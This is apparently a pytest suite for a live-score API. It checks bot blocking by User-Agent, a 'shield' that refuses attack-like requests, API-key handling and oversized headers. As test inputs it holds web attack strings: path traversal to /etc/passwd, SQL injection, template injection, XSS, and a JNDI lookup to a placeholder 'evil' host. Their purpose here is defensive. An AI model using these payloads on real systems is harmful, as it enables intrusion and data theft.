"""Bots by their User-Agent, and requests that look like attacks: refused in production, rehearsed with dry_run, off elsewhere."""
import re

import pytest

from checks import check_problem
from clients import Http, Socket
from credentials import BOOTSTRAP, SECRET, token
from wire import Wire, upgrade_request

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"
ATTACK = "/api/matches?team=x'%20OR%20'1'='1"
PRODUCTION = {"APP_ENV": "production", "RATE_LIMIT_MODE": "off", "WRITE_AUTH": "open"}


def metric(text: str, name: str) -> float:
    found = re.search(rf"^{re.escape(name)} (\S+)$", text, re.MULTILINE)
    return float(found[1]) if found else 0.0


@pytest.fixture
async def started(run_program):
    """A function: an API with these settings; its port and itself."""

    async def start(**settings):
        api = await run_program("livescore-api", **settings)
        return (await api.logged("api_listening"))["port"], api

    return start


def get(path: str = "/api/matches", agent: str | None = BROWSER, *more: str) -> bytes:
    lines = [f"GET {path} HTTP/1.1", "Host: a", *([] if agent is None else [f"User-Agent: {agent}"]), *more]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


async def status_of(port: int, *request) -> int:
    async with Wire(port) as wire:
        wire.send(get(*request))
        return (await wire.response()).status


# ---- bots


async def test_in_production_people_and_friendly_bots_are_served_and_others_not(started):
    port, api = await started(**PRODUCTION)
    for agent in (
        BROWSER,
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "facebookexternalhit/1.1",
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    ):
        assert await status_of(port, "/api/matches", agent) == 200, agent
    for agent in (
        "curl/8.5.0",
        "Scrapy/2.11.2 (+https://scrapy.org)",
        "python-requests/2.32.3",
        BROWSER.replace("Firefox", "HeadlessChrome"),
        "sqlmap/1.8",
        None,
        "",
    ):
        async with Wire(port) as wire:
            wire.send(get("/api/matches", agent))
            answer = await wire.response()
            check_problem(answer.status, answer.headers, answer.body, 403)
            wire.send(get())  # the connection is as good as before
            assert (await wire.response()).status == 200
    said = await api.logged("request_denied")
    assert (said["reason"], said["detail"], said["dryRun"]) == ("bot", "http_library", False)
    async with Wire(port) as wire:
        wire.send(get("/metrics"))
        assert metric((await wire.response()).body.decode(), 'livescore_api_denied_total{reason="bot"}') == 7


async def test_the_handshake_of_a_websocket_passes_the_same_gate(started):
    port, _ = await started(**PRODUCTION)
    async with Wire(port) as wire:
        wire.send(upgrade_request(User_Agent="Scrapy/2.11.2"))
        assert (await wire.response()).status == 403
    async with Wire(port) as wire:
        wire.send(upgrade_request(User_Agent=BROWSER, path="/ws?x=../../etc/passwd"))
        assert (await wire.response()).status == 403
    async with Wire(port) as wire:
        wire.send(upgrade_request(User_Agent=BROWSER))
        assert (await wire.response()).status == 101


async def test_probes_are_not_asked(started):
    port, _ = await started(**PRODUCTION)
    for path in ("/health", "/health/live", "/health/ready", "/metrics"):
        assert await status_of(port, path, None) in (200, 503), path  # 503: it has just begun
    assert await status_of(port, "/health/nothing", None) == 403


async def test_programs_with_a_good_key_are_served_and_with_a_bad_one_are_told(started):
    port, _ = await started(**PRODUCTION | {"BOOTSTRAP_API_KEY": BOOTSTRAP, "JWT_HS256_SECRET": SECRET})
    while True:  # until the instance knows the database's keys, it cannot tell a wrong one
        async with Wire(port) as wire:
            wire.send(get("/api/matches", "curl/8.5.0", "X-API-Key: some-key"))
            answer = await wire.response()
        if answer.status == 401:
            break
        assert answer.status == 200
    assert "not valid" in check_problem(answer.status, answer.headers, answer.body, 401)["error"]
    assert answer.headers["WWW-Authenticate"].startswith("Bearer")
    for good in (f"X-API-Key: {BOOTSTRAP}", f"Authorization: Bearer {BOOTSTRAP}", f"Authorization: Bearer {token()}"):
        assert await status_of(port, "/api/matches", "curl/8.5.0", good) == 200
    for bad in (
        "Authorization: Bearer some-key",
        "Authorization: Basic eDp5",
        f"Authorization: Bearer {token(-60)}",
        f"X-API-Key: {BOOTSTRAP}\r\nX-API-Key: {BOOTSTRAP}",
    ):
        assert await status_of(port, "/api/matches", "curl/8.5.0", bad) == 401, bad
        assert await status_of(port, "/api/matches", BROWSER, bad) == 200, "people are nobody's business"


async def test_what_is_allowed_and_denied_can_be_said(started):
    port, _ = await started(
        BOT_MODE="enforce", BOT_ALLOW="http_library,^OurCrawler/", BOT_DENY="python-requests,search_engine"
    )
    assert await status_of(port, "/api/matches", "curl/8.5.0") == 200
    assert await status_of(port, "/api/matches", "OurCrawler/1.0") == 200
    assert await status_of(port, "/api/matches", "python-requests/2.32.3") == 403
    assert await status_of(port, "/api/matches", "Googlebot/2.1") == 403
    assert await status_of(port, "/api/matches", "TheirCrawler/1.0") == 403
    assert await status_of(port, "/api/matches", None) == 200, "only production minds"


async def test_a_rehearsal_refuses_nobody(started):
    port, api = await started(BOT_MODE="dry_run", SHIELD_MODE="dry_run")
    assert await status_of(port, "/api/matches", "Scrapy/2.11.2") == 200
    assert await status_of(port, ATTACK) == 200
    async with Wire(port) as wire:
        wire.send(get("/metrics"))
        text = (await wire.response()).body.decode()
    assert metric(text, 'livescore_api_dry_run_denied_total{reason="bot"}') == 1
    assert metric(text, 'livescore_api_dry_run_denied_total{reason="shield"}') == 1
    assert metric(text, 'livescore_api_denied_total{reason="bot"}') == 0
    assert (await api.logged("request_denied"))["dryRun"] is True


async def test_development_minds_nobody(stack, api1):
    async with Http(stack.api(1)) as http:
        for agent in ("curl/8.5.0", "Scrapy/2.11.2", ""):
            assert (await http.get("/api/matches", headers={"User-Agent": agent})).status == 200
    async with Socket(stack.ws(1)):
        pass


# ---- the shield


async def test_attacks_are_refused_and_told_without_their_query(started):
    port, api = await started(SHIELD_MODE="enforce")
    attacks = [
        "/../../etc/passwd",
        "/api/matches/%2e%2e/%2e%2e/secret",
        "/api/matches/%252e%252e%252fsecret",
        "/api/matches/1%00",
        ATTACK,
        "/api/matches?team=%7B%7B7*7%7D%7D",
        "/.env",
        "/wp-login.php",
        "/api/matches?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/api/matches?token=s3cret&x=${jndi:ldap://evil/a}",
    ]
    for attack in attacks:
        async with Wire(port) as wire:
            wire.send(get(attack))
            answer = await wire.response()
            check_problem(answer.status, answer.headers, answer.body, 403)
            assert b"s3cret" not in answer.body
    async with Wire(port) as wire:
        wire.send(get("/metrics"))
        assert metric((await wire.response()).body.decode(), 'livescore_api_denied_total{reason="shield"}') == len(
            attacks
        )
    await api.logged("request_denied")
    assert not any("s3cret" in line for line in api.output)


async def test_what_people_write_is_content(started, api1):
    port, _ = await started(SHIELD_MODE="enforce")
    match = await api1.create_match()
    async with Http(f"http://127.0.0.1:{port}") as http:
        message = (
            "'; DROP TABLE matches; -- SELECT * FROM users <script>alert(1)</script> ../../etc/passwd ${7*7} {{7*7}}"
        )
        entry = await http.comment(match["id"], message)
        assert entry["message"] == message
        named = await http.create_match(homeTeam="O'Brien's Union SELECT", awayTeam="1. FC Köln & Söhne")
        found = await http.get("/api/matches", params={"team": "O'Brien's Union SELECT"})
        assert [one["id"] for one in found.data] == [named["id"]]
        assert (await http.get("/api/matches", params={"team": "Drop Zone; Table Tennis"})).status == 200
        assert (
            await http.get("/api/matches", params={"timezone": "Europe/Berlin", "date": "2026-11-21"})
        ).status == 200


async def test_heads_that_are_too_large_are_refused_and_counted(started):
    port, _ = await started(HTTP_MAX_HEADER_BYTES="4096", HTTP_MAX_HEADERS="20", HTTP_MAX_URL_BYTES="512")
    for request, status in (
        (get("/api/matches", BROWSER, "X: " + "x" * 5000), 431),
        (get("/api/matches", BROWSER, *["X: 1"] * 30), 431),
        (get("/api/" + "x" * 512), 414),
    ):
        async with Wire(port) as wire:
            wire.send(request)
            answer = await wire.response()
            check_problem(answer.status, answer.headers, answer.body, status)
    async with Wire(port) as wire:
        wire.send(get("/metrics"))
        assert metric((await wire.response()).body.decode(), 'livescore_api_denied_total{reason="oversized"}') == 3
